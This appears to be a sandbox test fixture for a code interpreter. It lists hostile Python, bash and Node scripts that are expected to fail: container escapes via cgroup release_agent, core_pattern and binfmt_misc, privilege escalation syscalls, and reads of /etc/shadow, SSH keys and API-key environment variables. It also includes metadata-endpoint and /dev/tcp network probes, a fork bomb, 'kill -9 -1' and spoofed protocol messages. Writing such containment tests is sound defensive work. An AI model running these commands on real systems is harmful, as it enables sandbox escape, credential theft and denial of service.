/**
 * Code that tries to get out, to write where it may not, or to break what runs it. Each prints ESCAPED when it
 * achieved what it must not; failing is what is expected of it, in whatever way.
 */
import type { Language } from '../../src/shared/outputs.ts';

export interface HostileScript {
  name: string;
  language: Language;
  code: string;
  /** Of the cell; 20 s unless told. */
  timeoutMs?: number;
}

const bash = (name: string, code: string): HostileScript => ({ name, language: 'bash', code });
const js = (name: string, code: string): HostileScript => ({ name, language: 'javascript', code });
/** Each line is tried alone; one that raises nothing has escaped. */
const python = (name: string, lines: string): HostileScript => ({
  name,
  language: 'python',
  code: `
import ctypes, fcntl, mmap, os, shutil, signal, socket, sqlite3, stat, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def syscall_ok(result):
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
for line in ${JSON.stringify(lines.trim().split('\n'))}:
    try:
        exec(line.strip())
        print("ESCAPED", line.strip())
    except BaseException as e:
        print("refused", type(e).__name__, str(e)[:80])
`,
});
/** Shell lines: each must fail. */
const shell = (name: string, lines: string): HostileScript =>
  bash(
    name,
    lines
      .trim()
      .split('\n')
      .map(
        (line) =>
          `if ( ${line.trim()} ) >/dev/null 2>&1; then echo ESCAPED '${line.trim().replaceAll("'", '"')}'; fi`,
      )
      .join('\n'),
  );

/** Writing through the workspace, by every route. */
const WORKSPACE: HostileScript[] = [
  python(
    'workspace: open to write',
    `open("/workspace/data.csv", "w")\nopen("/workspace/data.csv", "a")\nopen("/workspace/new.csv", "x")\nos.open("/workspace/data.csv", os.O_RDWR | os.O_TRUNC)`,
  ),
  python(
    'workspace: remove and rename',
    `os.remove("/workspace/data.csv")\nos.rename("/workspace/data.csv", "/workspace/x")\nos.rename("/workspace/data.csv", "/outputs/x")\nos.replace("/etc/hostname", "/workspace/data.csv")\nshutil.rmtree("/workspace/sub")\nos.rmdir("/workspace/sub")`,
  ),
  python(
    'workspace: links',
    `os.link("/workspace/data.csv", "/workspace/hard")\nos.link("/workspace/data.csv", "/outputs/hard")\nos.symlink("/etc/passwd", "/workspace/soft")`,
  ),
  python(
    'workspace: modes, owners, times',
    `os.chmod("/workspace/data.csv", 0o777)\nos.chown("/workspace/data.csv", 0, 0)\nos.utime("/workspace/data.csv", (0, 0))\nos.setxattr("/workspace/data.csv", "user.x", b"1")\nos.chmod("/workspace", 0o777)`,
  ),
  python(
    'workspace: folders, FIFOs, devices, sockets',
    `os.mkdir("/workspace/d")\nos.mkfifo("/workspace/f")\nos.mknod("/workspace/n", 0o666 | stat.S_IFCHR, os.makedev(1, 3))\nsocket.socket(socket.AF_UNIX).bind("/workspace/s")`,
  ),
  python(
    'workspace: through /proc',
    `open("/proc/self/root/workspace/data.csv", "a")\nopen("/proc/1/root/workspace/data.csv", "a")\nopen(f"/proc/self/fd/{os.open('/workspace/data.csv', os.O_RDONLY)}", "w")\nos.chdir("/workspace"); open("/proc/self/cwd/data.csv", "w")`,
  ),
  python(
    'workspace: through a mapping',
    `fd = os.open("/workspace/data.csv", os.O_RDONLY); m = mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ)\nfd = os.open("/workspace/data.csv", os.O_RDWR)\nos.truncate("/workspace/data.csv", 0)\nos.ftruncate(os.open("/workspace/data.csv", os.O_RDONLY), 0)`,
  ),
  python(
    'workspace: through a link of its own',
    `os.symlink("/workspace", "/outputs/ws"); open("/outputs/ws/data.csv", "a")\nos.symlink("/workspace/data.csv", "/outputs/dc"); open("/outputs/dc", "w")\nos.symlink("/workspace/new", "/outputs/nn"); open("/outputs/nn", "w")`,
  ),
  python(
    'workspace: databases',
    `sqlite3.connect("/workspace/db.sqlite").execute("create table t(x)")\nc = sqlite3.connect("/workspace/notes.sqlite"); c.execute("insert into t values (2)"); c.commit()\nc = sqlite3.connect("/workspace/notes.sqlite"); c.execute("pragma journal_mode=wal"); c.execute("delete from t"); c.commit()`,
  ),
  shell(
    'workspace: tools',
    `touch /workspace/data.csv\ndd if=/dev/zero of=/workspace/data.csv count=1 conv=notrunc\ntruncate -s 0 /workspace/data.csv\nsed -i s/1/2/ /workspace/data.csv\ntee -a /workspace/data.csv < /etc/hostname\ncp -f /etc/hostname /workspace/data.csv\ntar -C /workspace -xf <(tar -C /etc -cf - hostname)\nrm -rf /workspace/data.csv\nln -sf /etc/passwd /workspace/data.csv\ninstall -m 777 /etc/hostname /workspace/x\nmkdir -p /workspace/a/b`,
  ),
  shell(
    'workspace: mounting over it',
    `mount -o remount,rw /workspace\nmount --bind /outputs /workspace\nmount -t tmpfs none /workspace\numount /workspace\numount -l /workspace`,
  ),
  python(
    'workspace: mount system calls',
    `syscall_ok(libc.mount(b"none", b"/workspace", None, 32 | 4096, None))\nsyscall_ok(libc.umount2(b"/workspace", 2))\nsyscall_ok(libc.syscall(442, -100, b"/workspace", 0, 0, 0))\nsyscall_ok(libc.syscall(428, -100, b"/workspace", 1))\nsyscall_ok(libc.pivot_root(b"/outputs", b"/outputs"))`,
  ),
  js(
    'workspace: from Node',
    `const fs = require('fs');
for (const f of [() => fs.writeFileSync('/workspace/data.csv', 'x'), () => fs.unlinkSync('/workspace/data.csv'),
  () => fs.renameSync('/workspace/data.csv', '/outputs/d'), () => fs.chmodSync('/workspace/data.csv', 0o777),
  () => fs.symlinkSync('/etc/passwd', '/workspace/l'), () => fs.mkdirSync('/workspace/d'),
  () => fs.copyFileSync('/etc/hostname', '/workspace/data.csv'), () => fs.rmSync('/workspace/sub', { recursive: true }),
  () => fs.openSync('/workspace/data.csv', 'r+'), () => fs.utimesSync('/workspace/data.csv', 0, 0)])
  try { f(); console.log('ESCAPED', String(f)); } catch (e) { console.log('refused', e.code); }`,
  ),
  python(
    'workspace: file locks and allocation',
    `os.posix_fallocate(os.open("/workspace/data.csv", os.O_RDWR), 0, 10)\nos.copy_file_range(os.open("/etc/hostname", os.O_RDONLY), os.open("/workspace/data.csv", os.O_WRONLY), 5)\nos.open("/workspace", os.O_TMPFILE | os.O_RDWR)\nos.sendfile(os.open("/workspace/data.csv", os.O_WRONLY), os.open("/etc/hostname", os.O_RDONLY), 0, 5)`,
  ),
];

/** Becoming more than an ordinary, confined user. */
const PRIVILEGE: HostileScript[] = [
  python(
    'privilege: user ids',
    `os.setuid(0)\nos.setgid(0)\nos.setgroups([0])\nos.setresuid(0, 0, 0)\nos.setreuid(0, 0)\nos.initgroups("root", 0)`,
  ),
  shell(
    'privilege: su and setuid programs',
    `su -c id root\nsudo -n id\nchroot / id\nnsenter -t 1 -m id\nunshare -U id\nunshare -r id\nunshare -m id\nunshare -n id`,
  ),
  bash(
    'privilege: a setuid copy of its own',
    `cp /usr/bin/id /outputs/sid && chmod 6755 /outputs/sid; [ "$(/outputs/sid -u)" = 0 ] && echo ESCAPED
cp /usr/bin/id /tmp/sid; chmod 6755 /tmp/sid; /tmp/sid && echo ESCAPED noexec
true`,
  ),
  python(
    'privilege: capabilities',
    `syscall_ok(libc.prctl(23 + 1, 21)); syscall_ok(libc.unshare(0x00020000))\nsyscall_ok(libc.unshare(0x10000000))\nsyscall_ok(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))\nos.sethostname(b"x") if hasattr(os, "sethostname") else syscall_ok(libc.sethostname(b"x", 1))\nsocket.sethostname("owned")\ntime.clock_settime(time.CLOCK_REALTIME, 0)\nos.nice(-5)`,
  ),
  python(
    'privilege: kernel doors',
    `syscall_ok(libc.syscall(321, 0, 0, 0))\nsyscall_ok(libc.syscall(250, 0, 0, 0, 0, 0))\nsyscall_ok(libc.syscall(298, 0, 0, -1, -1, 0))\nsyscall_ok(libc.syscall(323, 0))\nsyscall_ok(libc.syscall(246, 0, 0, 0, 0))\nsyscall_ok(libc.syscall(175, 0, 0, b""))\nsyscall_ok(libc.syscall(169, 0xfee1dead, 672274793, 0x1234567, 0))\nsyscall_ok(libc.syscall(103, 3, 0, 0)) if libc.syscall(103, 10, 0, 0) > 0 else syscall_ok(-1)\nsyscall_ok(libc.swapon(b"/outputs/x", 0))\nsyscall_ok(libc.syscall(304, -100, 0, 0))`,
  ),
  python(
    'privilege: tracing and tuning the processes around it',
    `libc.ptrace(16, 1, 0, 0); raise OSError("its own container, which may break, but nothing else")
os.write(os.open("/proc/1/oom_score_adj", os.O_WRONLY), b"-1000")
os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000")
os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
os.setpriority(os.PRIO_PROCESS, 0, -20)
import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (10**6, 10**6))
import resource; resource.setrlimit(resource.RLIMIT_CORE, (10**6, 10**6))`,
  ),
  shell(
    'privilege: devices',
    `mknod /outputs/sda b 8 0\nmknod /tmp/mem c 1 1\nmknod /dev/sda b 254 0\ndd if=/dev/vda of=/dev/null count=1\ndd if=/dev/sda of=/dev/null count=1\ndd if=/dev/mem of=/dev/null count=1\ndd if=/dev/kmsg of=/dev/null count=1\necho x > /dev/kmsg\nhead -c1 /proc/kcore\ndmesg\ntouch /dev/new\nlosetup -f`,
  ),
  shell(
    'privilege: kernel settings',
    `echo "|/outputs/x" > /proc/sys/kernel/core_pattern\necho /outputs/x > /proc/sys/kernel/modprobe\necho 1 > /proc/sys/net/ipv4/ip_forward\necho b > /proc/sysrq-trigger\nsysctl -w kernel.hostname=x\necho 1 > /sys/kernel/mm/ksm/run\necho 0 > /proc/sys/kernel/randomize_va_space\nmodprobe dummy\ninsmod /outputs/x.ko\necho x > /sys/kernel/uevent_helper\necho :x:M::x::/outputs/x:F > /proc/sys/fs/binfmt_misc/register`,
  ),
  bash(
    'privilege: cgroup release agent',
    `mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg 2>/dev/null && echo ESCAPED mount
for d in /sys/fs/cgroup /sys/fs/cgroup/*; do
  ( echo /outputs/x > "$d/release_agent" ) 2>/dev/null && echo ESCAPED release_agent
  ( mkdir "$d/x" ) 2>/dev/null && echo ESCAPED "mkdir $d"
  ( echo 99999999999 > "$d/memory.limit_in_bytes" ) 2>/dev/null && echo ESCAPED memory
  ( echo max > "$d/pids.max" ) 2>/dev/null && echo ESCAPED pids
  ( echo a > "$d/devices.allow" ) 2>/dev/null && echo ESCAPED devices
done; true`,
  ),
  python(
    'privilege: leaving the root',
    `os.chroot("/outputs")\nos.mkdir("/outputs/jail"); os.chroot("/outputs/jail")\n[open(f"/proc/self/fd/{n}/../../../../../etc/machine-owned", "w") for n in range(3, 30)]\nos.open("/proc/self/fd/7/../../../../var/run/docker.sock", os.O_RDONLY)`,
  ),
];

/** Changing the container, or what runs in it. */
const CONTAINER: HostileScript[] = [
  shell(
    'container: writing its system',
    `touch /x\ntouch /etc/x\necho x >> /etc/passwd\ntouch /usr/bin/x\ntouch /workspace/../x\necho x > /etc/resolv.conf\necho x > /etc/hosts\nrm /bin/sh\ntouch /opt/code-interpreter/x\nmkdir /var/x\ntouch /run/x\ntouch /root/x\nls /root`,
  ),
  python(
    'container: replacing its programs',
    `open("/opt/code-interpreter/kernel/fetch.py", "w")\nos.remove("/opt/code-interpreter/kernel/bridge.py")\nos.rename("/opt/code-interpreter", "/outputs/ci")\nopen("/opt/code-interpreter/manifest.json", "w")\nos.chmod("/opt/code-interpreter/kernel/fetch.py", 0o777)`,
  ),
  bash(
    'container: programs of its own before ours',
    `mkdir -p /outputs/bin; printf '#!/bin/sh\\necho ESCAPED\\n' > /outputs/bin/python3; chmod +x /outputs/bin/python3
printf 'print("ESCAPED")' > /outputs/json.py; printf 'print("ESCAPED")' > /outputs/sitecustomize.py; printf 'print("ESCAPED")' > /outputs/os.py
(export PATH=/outputs/bin:$PATH PYTHONPATH=/outputs; python3 -c 1 >/dev/null); true`,
  ),
  bash(
    'container: secrets',
    `env | grep -iE 'api_?key|token|secret|password|anthropic' && echo ESCAPED
for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null | grep -iE 'api_?key|secret|anthropic' && echo ESCAPED; done
for f in /etc/shadow /root/.ssh/id_rsa /root/.docker/config.json /var/lib/docker /run/secrets; do cat "$f" 2>/dev/null && echo ESCAPED "$f"; done; true`,
  ),
  bash(
    'container: host processes',
    `for p in /proc/[0-9]*; do c=$(tr '\\0' ' ' < $p/cmdline 2>/dev/null); case "$c" in *dockerd*|*containerd*|*code-server*|*sshd*) echo ESCAPED "$c";; esac; done; true`,
  ),
  bash(
    'container: Docker socket',
    `find / -xdev \\( -name 'docker*.sock' -o -name 'containerd*.sock' -o -name 'podman*.sock' \\) 2>/dev/null | grep . && echo ESCAPED
for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do [ -S $s ] && echo ESCAPED $s; done; true`,
  ),
];

/** Reaching anything but itself. Nothing is dialled that exists: there is no interface to dial from. */
const NETWORK: HostileScript[] = [
  python(
    'network: sockets',
    `socket.create_connection(("127.0.0.1", 1), 2)\nsocket.create_connection(("172.17.0.1", 80), 2)\nsocket.create_connection(("192.0.2.1", 80), 2)\nsocket.create_connection(("2001:db8::1", 80), 2)\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53))\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)`,
  ),
  python(
    'network: metadata and names',
    `socket.create_connection(("169.254.169.254", 80), 2)\nsocket.getaddrinfo("example.com", 80)\nsocket.gethostbyname("host.docker.internal")\nsocket.gethostbyname("localhost.evil.test")`,
  ),
  js(
    'network: from Node',
    `for (const u of ['http://192.0.2.1/', 'http://169.254.169.254/latest/', 'https://example.com/', 'http://host.docker.internal/'])
  // The closed door answers by itself.
  await fetch(u, { signal: AbortSignal.timeout(3000) }).then(async (r) => console.log(/Only the user can open it/.test(await r.text()) ? 'refused' : 'ESCAPED', u), (e) => console.log('refused', e.cause?.code ?? e.name));
await require('dns').promises.resolve('example.com').then(() => console.log('ESCAPED dns'), (e) => console.log('refused', e.code));`,
  ),
  bash(
    'network: from bash',
    `for a in 192.0.2.1/80 169.254.169.254/80 172.17.0.1/22; do ( timeout 3 bash -c "echo x > /dev/tcp/$a" ) 2>/dev/null && echo ESCAPED $a; done
ls /sys/class/net | grep -v '^lo$' && echo ESCAPED interface; [ "$(grep -c . /proc/net/route)" -gt 1 ] && echo ESCAPED route; true`,
  ),
  python(
    'network: making an interface',
    `fcntl.ioctl(os.open("/dev/net/tun", os.O_RDWR), 0x400454ca, b"x" * 40)\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).send(b"\\x20\\0\\0\\0\\x10\\0\\x05\\0" + b"\\0" * 24); raise OSError("sent, which changes nothing without a capability")\nsubprocess.run(["ip", "link", "add", "x", "type", "dummy"], check=True)\nos.open("/dev/vsock", os.O_RDWR)\ns = socket.socket(40, socket.SOCK_STREAM); s.settimeout(2); s.connect((2, 22))`,
  ),
];

/** Using up what there is. */
const EXHAUSTION: HostileScript[] = [
  bash('exhaustion: fork bomb', `bomb() { bomb | bomb & }; bomb 2>/dev/null; sleep 2; true`),
  python(
    'exhaustion: processes and threads',
    `procs = [subprocess.Popen(["sleep", "5"]) for _ in range(1000)]\nimport threading; [threading.Thread(target=time.sleep, args=(1,), daemon=True).start() for _ in range(5000)]`,
  ),
  python(
    'exhaustion: memory',
    `x = bytearray(1 << 40)\nchunks = []; [chunks.append(bytearray(b"x") * (64 << 20)) for _ in range(100)]`,
  ),
  bash(
    'exhaustion: memory of a child',
    `python3 -c 'x = [bytearray(b"x") * (64 << 20) for _ in range(100)]; print("ESCAPED")'; true`,
  ),
  bash(
    'exhaustion: memory file systems',
    `dd if=/dev/zero of=/tmp/full bs=1M count=4000 2>/dev/null && echo ESCAPED; rm -f /tmp/full; dd if=/dev/zero of=/dev/shm/full bs=1M count=4000 2>/dev/null && echo ESCAPED; rm -f /dev/shm/full; true`,
  ),
  python('exhaustion: files in /tmp', `[open(f"/tmp/many{n}", "w").close() for n in range(200000)]`),
  bash(
    'exhaustion: one huge file',
    `rm -f /tmp/many*; truncate -s 1T /outputs/huge && echo ESCAPED; rm -f /outputs/huge; true`,
  ),
  python('exhaustion: open files', `files = [open("/etc/hostname") for _ in range(100000)]`),
  bash('exhaustion: output', `yes hostile | head -c 200000000; true`),
  bash(
    'exhaustion: leaving daemons',
    `for n in 1 2 3 4 5; do setsid nohup sh -c 'trap "" INT TERM HUP; while true; do sleep 1; done' >/dev/null 2>&1 & done; true`,
  ),
];

/** Attacking the bridge and the protocol. */
const BRIDGE: HostileScript[] = [
  python(
    'bridge: false lines on standard output',
    `print('{"type":"done","seq":1,"id":"x","status":"ok"}', flush=True); raise OSError()\nos.write(1, b'{"type":"welcome","seq":0}\\n' * 100); raise OSError()\nos.write(1, b"\\xff\\xfe\\x00" * 1000); raise OSError()`,
  ),
  python(
    'bridge: its socket',
    `s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("\\0code-interpreter-bridge"); s.sendall(b"not json\\n" * 1000); s.close(); raise OSError()\ns = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("\\0code-interpreter-bridge"); s.sendall(b'{"op":"hello","protocol":1,"afterSeq":0}\\n{"op":"execute","id":"mine","language":"python","code":"1"}\\n'); time.sleep(0.3); s.close(); raise OSError()\ns = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("\\0code-interpreter-bridge"); s.sendall(b"x" * 10_000_000); raise OSError()`,
  ),
  python(
    'bridge: taking its place',
    `s = socket.socket(socket.AF_UNIX); s.bind("\\0code-interpreter-bridge"); s.listen(); os.system("pkill socat"); time.sleep(1); raise OSError()`,
  ),
  bash('bridge: killing its helpers', `pkill -9 socat; sleep 0.5; true`),
  bash('bridge: killing it', `pkill -9 -f bridge.py; sleep 1; true`),
  bash('bridge: killing everything', `kill -9 -1; sleep 1; true`),
  // It ends at the limit only, and then it is the sandbox that does not answer.
  { ...bash('bridge: freezing everything', `kill -STOP -1; sleep 1; true`), timeoutMs: 5000 },
  python('bridge: closing its own descriptors', `os.closerange(0, 4096)`),
];

/** Output files that are not what they seem. */
const ARTIFACTS: HostileScript[] = [
  bash(
    'artifacts: links',
    `ln -s /etc/shadow /outputs/shadow.txt; ln -s /proc/1/environ /outputs/env.txt; ln -s / /outputs/root; ln /etc/hostname /outputs/hard.txt; true`,
  ),
  bash(
    'artifacts: special files',
    `mkfifo /outputs/pipe.csv; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("/outputs/sock.csv")'; truncate -s 1G /outputs/sparse.bin; true`,
  ),
  python(
    'artifacts: names',
    `[open(b"/outputs/" + n, "w").close() for n in (b"new\\nline", b"esc\\x1b[2J", b"\\xff\\xfe", b"con.txt", b"trailing.", b"back\\\\slash", "\\u202egpj.exe".encode(), b"a" * 255, b"-rf", b"%2e%2e%2f")]; raise OSError()\nos.makedirs("/outputs/" + "d/" * 200); raise OSError()\nos.makedirs("/outputs/.git/hooks", exist_ok=True); open("/outputs/.git/hooks/pre-commit", "w"); raise OSError()`,
  ),
  python(
    'artifacts: too many',
    `[open(f"/outputs/n{n}", "w").close() for n in range(5000)]; raise OSError()`,
  ),
];

export const HOSTILE_SCRIPTS: HostileScript[] = [
  ...WORKSPACE,
  ...PRIVILEGE,
  ...CONTAINER,
  ...NETWORK,
  ...EXHAUSTION,
  ...BRIDGE,
  ...ARTIFACTS,
];
